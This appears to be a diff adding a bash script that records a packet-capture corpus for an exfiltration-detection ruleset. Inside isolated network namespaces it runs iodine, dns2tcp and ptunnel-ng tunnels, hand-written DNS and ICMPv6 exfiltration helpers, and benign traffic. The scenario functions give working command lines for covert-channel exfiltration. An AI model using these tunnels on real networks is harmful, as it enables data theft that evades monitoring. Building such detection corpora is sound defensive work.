@@ -1,0 +1,321 @@
+#!/usr/bin/env bash
+# Records the covert-channel corpus in pcaps/covert/: real DNS and ICMP tunnelling programs
+# and benign traffic, captured from the project's own ruleset (nft/exfilmon.nft) with
+# `tcpdump -i nflog:7`, one small capture per scenario. Run as root:
+#
+#   sudo pcaps/covert.sh            # every capture
+#   sudo pcaps/covert.sh iodine     # one scenario (see SCENARIOS below)
+#
+# Needs (Debian): iodine dns2tcp ptunnel-ng dnsmasq-base tcpdump nftables iproute2 socat
+#                 bind9-dnsutils python3. The committed captures mean tests never run this.
+#
+# SAFETY: all traffic stays between two network namespaces created here
+# (exfcov-in 10.77.9.2 / fd77:9::2  <-veth->  exfcov-out 10.77.9.1 / fd77:9::1), neither with
+# a default route; tunnels (iodine's dns0) get 10.77.10.0/27 inside the same namespaces.
+# Everything started here is killed and both namespaces are deleted on EXIT.
+#
+# Users: exfil-cov runs the tunnels, exfil-web the benign traffic (created when missing).
+# Gotchas learnt the hard way:
+#   - iodine's client must start as root (it opens /dev/net/tun); `-u USER` drops privileges
+#     after the handshake, so its first queries carry uid 0.
+#   - iodine tries "raw mode" (plain UDP to port 53, not DNS) unless -r: iodine-raw.pcap
+#     keeps that on purpose, iodine.pcap passes -r.
+#   - ptunnel-ng's client needs a raw socket (root); -u/-g drop privileges after that.
+#   - Unprivileged ICMP (python's SOCK_DGRAM echo) needs net.ipv4.ping_group_range, a
+#     per-namespace sysctl: set in exfcov-in only.
+#   - NFLOG batches for up to 1 s (our ruleset's default timeout): pause before stopping
+#     tcpdump or the last packets are lost.
+set -euo pipefail
+
+HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
+REPO="$(cd "$HERE/.." && pwd)"
+OUT="$HERE/covert"
+PY=/usr/bin/python3
+NS_IN=exfcov-in
+NS_OUT=exfcov-out
+TUNNELER=exfil-cov
+BROWSER=exfil-web
+SCENARIOS=(benign slow-dns iodine iodine-raw dns2tcp ptunnel icmp6-exfil)
+
+log() { printf '[covert.sh] %s\n' "$*" >&2; }
+
+TMP=""
+PIDS=()
+
+stop_all() {
+	local p
+	for p in "${PIDS[@]:-}"; do
+		[ -n "$p" ] && kill "$p" 2>/dev/null || true
+	done
+	for p in "${PIDS[@]:-}"; do
+		[ -n "$p" ] && wait "$p" 2>/dev/null || true
+	done
+	PIDS=()
+	# Daemons that fork write pid files.
+	if [ -n "$TMP" ]; then
+		for f in "$TMP"/*.pid; do
+			[ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null || true
+			rm -f "$f"
+		done
+	fi
+}
+
+cleanup() {
+	stop_all
+	ip netns del "$NS_IN" 2>/dev/null || true
+	ip netns del "$NS_OUT" 2>/dev/null || true
+	rm -rf "/etc/netns/$NS_IN"
+	[ -n "$TMP" ] && rm -rf "$TMP"
+	return 0
+}
+
+ensure_user() {
+	id "$1" >/dev/null 2>&1 || useradd -m -s /bin/bash "$1"
+}
+
+wait_port() { # ns proto port
+	local i
+	for i in $(seq 1 100); do
+		if ip netns exec "$1" ss -Hln"$2" "sport = :$3" | grep -q .; then return 0; fi
+		sleep 0.1
+	done
+	log "nothing listening on $2/$3 in $1"
+	return 1
+}
+
+setup() {
+	[ "$(id -u)" = 0 ] || { log "needs root (network namespaces, nft, tcpdump)"; exit 1; }
+	cleanup
+	TMP="$(mktemp -d /tmp/exfilmon-covert.XXXXXX)"
+	chmod 755 "$TMP"
+	ip netns add "$NS_IN"
+	ip netns add "$NS_OUT"
+	ip link add exfcov-veth-in netns "$NS_IN" type veth peer name exfcov-veth-out netns "$NS_OUT"
+	ip -n "$NS_IN" link set lo up
+	ip -n "$NS_OUT" link set lo up
+	ip -n "$NS_IN" addr add 10.77.9.2/24 dev exfcov-veth-in
+	ip -n "$NS_OUT" addr add 10.77.9.1/24 dev exfcov-veth-out
+	ip -n "$NS_IN" addr add fd77:9::2/64 dev exfcov-veth-in nodad
+	ip -n "$NS_OUT" addr add fd77:9::1/64 dev exfcov-veth-out nodad
+	ip -n "$NS_IN" link set exfcov-veth-in up
+	ip -n "$NS_OUT" link set exfcov-veth-out up
+	if ip -n "$NS_IN" route show default | grep -q . || ip -n "$NS_IN" -6 route show default | grep -q .; then
+		log "unexpected default route in $NS_IN"
+		exit 1
+	fi
+	ip netns exec "$NS_IN" sysctl -q -w net.ipv4.ping_group_range="0 2147483647"
+	# `ip netns exec` bind-mounts this over /etc/resolv.conf: glibc in exfcov-in asks 10.77.9.1.
+	mkdir -p "/etc/netns/$NS_IN"
+	echo "nameserver 10.77.9.1" >"/etc/netns/$NS_IN/resolv.conf"
+	ensure_user "$TUNNELER"
+	ensure_user "$BROWSER"
+	# A sink for tunnelled TCP, in the server namespace.
+	ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=127.0.0.1,reuseaddr,fork' OPEN:/dev/null &
+	PIDS+=($!)
+	ip netns exec "$NS_OUT" socat -u 'TCP-LISTEN:9000,bind=10.77.10.1,reuseaddr,fork,ip-freebind' OPEN:/dev/null &
+	PIDS+=($!)
+	# Neighbour discovery before the capture starts keeps the files tidy.
+	ip netns exec "$NS_IN" "$PY" "$HERE/ping.py" -c 1 10.77.9.1
+	ip netns exec "$NS_IN" "$PY" "$HERE/ping.py" -c 1 fd77:9::1
+	ip netns exec "$NS_IN" nft -f "$REPO/nft/exfilmon.nft"
+	mkdir -p "$OUT"
+}
+
+TCPDUMP=""
+capture_start() {
+	ip netns exec "$NS_IN" tcpdump -i nflog:7 -U -Z root -w "$TMP/cap.pcap" 2>"$TMP/tcpdump.log" &
+	TCPDUMP=$!
+	local i
+	for i in $(seq 1 50); do
+		grep -q 'listening on' "$TMP/tcpdump.log" 2>/dev/null && break
+		sleep 0.1
+	done
+	sleep 0.3
+}
+
+capture_stop() { # name
+	sleep 1.5
+	kill -INT "$TCPDUMP"
+	wait "$TCPDUMP" || true
+	TCPDUMP=""
+	stop_all_servers
+	mv "$TMP/cap.pcap" "$OUT/$1.pcap"
+	chmod 644 "$OUT/$1.pcap"
+	log "$1.pcap: $(stat -c %s "$OUT/$1.pcap") bytes"
+}
+
+SERVERS=()
+server() { # command... (runs in exfcov-out)
+	ip netns exec "$NS_OUT" "$@" &
+	SERVERS+=($!)
+}
+stop_all_servers() {
+	local p
+	for p in "${SERVERS[@]:-}"; do
+		[ -n "$p" ] && kill "$p" 2>/dev/null || true
+	done
+	for p in "${SERVERS[@]:-}"; do
+		[ -n "$p" ] && wait "$p" 2>/dev/null || true
+	done
+	SERVERS=()
+	for f in "$TMP"/*.pid; do
+		[ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null || true
+		rm -f "$f"
+	done
+	sleep 0.3
+}
+
+# Sends the secret as exfil-cov over TCP and waits until the far end has read all of it (the
+# sink closes after EOF), so the tunnel is not stopped with data still queued.
+send_through() { # address port
+	AS "$TUNNELER" "$PY" -c '
+import socket, sys
+s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=120)
+s.sendall(open(sys.argv[1], "rb").read())
+s.shutdown(socket.SHUT_WR)
+s.settimeout(30)
+try:
+    s.recv(1)
+except socket.timeout:
+    print("no close from the far end within 30 s", file=sys.stderr)
+s.close()' "$TMP/secret" "$1" "$2" || log "tunnelled send to $1:$2 failed"
+}
+
+IN() { ip netns exec "$NS_IN" "$@"; }
+AS() { local u="$1"; shift; ip netns exec "$NS_IN" runuser -u "$u" -- "$@"; }
+
+resolver() { # dnsmasq answering every name, as an ordinary resolver would
+	server dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
+		--bind-interfaces --listen-address=10.77.9.1 --listen-address=fd77:9::1 \
+		--address=/#/10.77.9.1 --pid-file="$TMP/dnsmasq.pid" --log-facility=- 2>"$TMP/dnsmasq.log"
+	wait_port "$NS_OUT" u 53
+}
+
+secret() { # bytes -> file readable by the tunneller (seeded, reproducible)
+	"$PY" -c "import random,sys; sys.stdout.buffer.write(random.Random(4).randbytes($1))" >"$TMP/secret"
+	chmod 644 "$TMP/secret"
+}
+
+scenario_benign() {
+	resolver
+	capture_start
+	log "benign: ordinary lookups, CDN and telemetry names, a browser burst, reverse lookups, pings"
+	AS "$BROWSER" "$PY" "$HERE/covert_benign.py"
+	AS "$BROWSER" dig +short +tries=1 +time=2 @10.77.9.1 www.example.test A >/dev/null
+	AS "$BROWSER" dig +short +tcp +tries=1 +time=2 @10.77.9.1 _dmarc.example.test TXT >/dev/null
+	AS "$BROWSER" getent ahosts mirror.example.test >/dev/null || true
+	IN "$PY" "$HERE/ping.py" -c 3 10.77.9.1
+	IN "$PY" "$HERE/ping.py" -c 3 fd77:9::1
+	capture_stop benign
+}
+
+scenario_slow_dns() {
+	resolver
+	secret 1200
+	capture_start
+	log "slow-dns: hand-written exfiltration, one A query every ~0.7 s"
+	AS "$TUNNELER" "$PY" "$HERE/covert_slow_dns.py" "$TMP/secret" 10.77.9.1 sync.cdn-metrics.test
+	capture_stop slow-dns
+}
+
+iodined_start() {
+	server iodined -f -c -P covertpass -l 10.77.9.1 -p 53 10.77.10.1/27 t.tun.test
+	wait_port "$NS_OUT" u 53
+}
+
+iodine_run() { # extra iodine flags...
+	secret 16384
+	capture_start
+	# Root first (tun device), then exfil-cov; -f foreground, killed below.
+	IN iodine -f -P covertpass -u "$TUNNELER" "$@" 10.77.9.1 t.tun.test >"$TMP/iodine.log" 2>&1 &
+	local pid=$!
+	local i
+	for i in $(seq 1 100); do
+		grep -q 'Connection setup complete' "$TMP/iodine.log" && break
+		sleep 0.2
+	done
+	cat "$TMP/iodine.log" >&2
+	send_through 10.77.10.1 9000
+	sleep 2
+	kill "$pid" 2>/dev/null || true
+	wait "$pid" 2>/dev/null || true
+}
+
+scenario_iodine() {
+	iodined_start
+	log "iodine: DNS mode (-r), 16 KiB through the tunnel"
+	iodine_run -r
+	capture_stop iodine
+}
+
+scenario_iodine_raw() {
+	iodined_start
+	log "iodine-raw: raw UDP mode to port 53 after the DNS handshake"
+	iodine_run
+	capture_stop iodine-raw
+}
+
+scenario_dns2tcp() {
+	cat >"$TMP/dns2tcpd.conf" <<-EOF
+		listen = 10.77.9.1
+		port = 53
+		user = nobody
+		chroot = /tmp
+		domain = d2t.tun.test
+		resources = sink:127.0.0.1:9000
+	EOF
+	server dns2tcpd -F -f "$TMP/dns2tcpd.conf"
+	wait_port "$NS_OUT" u 53
+	secret 16384
+	capture_start
+	log "dns2tcp: TXT queries, 16 KiB through the tunnel"
+	AS "$TUNNELER" dns2tcpc -z d2t.tun.test -r sink -l 2222 10.77.9.1 >"$TMP/dns2tcpc.log" 2>&1 &
+	local pid=$!
+	wait_port "$NS_IN" t 2222
+	send_through 127.0.0.1 2222
+	kill "$pid" 2>/dev/null || true
+	wait "$pid" 2>/dev/null || true
+	capture_stop dns2tcp
+}
+
+scenario_ptunnel() {
+	server ptunnel-ng -r127.0.0.1 -R9000 -v 1
+	sleep 2   # no port to wait for: the proxy only opens a raw socket
+	secret 32768
+	capture_start
+	log "ptunnel: ptunnel-ng over ICMP echo, 32 KiB through the tunnel"
+	IN ptunnel-ng -p10.77.9.1 -l2222 -r127.0.0.1 -R9000 -u"$TUNNELER" -v 1 >"$TMP/ptunnel.log" 2>&1 &
+	local pid=$!
+	wait_port "$NS_IN" t 2222
+	send_through 127.0.0.1 2222
+	kill "$pid" 2>/dev/null || true
+	wait "$pid" 2>/dev/null || true
+	capture_stop ptunnel
+}
+
+scenario_icmp6_exfil() {
+	secret 16384
+	capture_start
+	log "icmp6-exfil: a file in ICMPv6 echo payloads, unprivileged ping socket"
+	AS "$TUNNELER" "$PY" "$HERE/covert_icmp_exfil.py" "$TMP/secret" fd77:9::1
+	capture_stop icmp6-exfil
+}
+
+users_json() {
+	"$PY" - "$OUT/users.json" "$TUNNELER" "$BROWSER" <<-'EOF'
+		import json, pwd, sys
+		json.dump({u: pwd.getpwnam(u).pw_uid for u in sys.argv[2:]} | {"root": 0},
+		          open(sys.argv[1], "w"), indent=2, sort_keys=True)
+	EOF
+}
+
+trap cleanup EXIT
+trap 'exit 130' INT TERM
+WHAT=("${@:-${SCENARIOS[@]}}")
+setup
+users_json
+for s in "${WHAT[@]}"; do
+	"scenario_${s//-/_}"
+done
+ls -l "$OUT" >&2
+log "done"
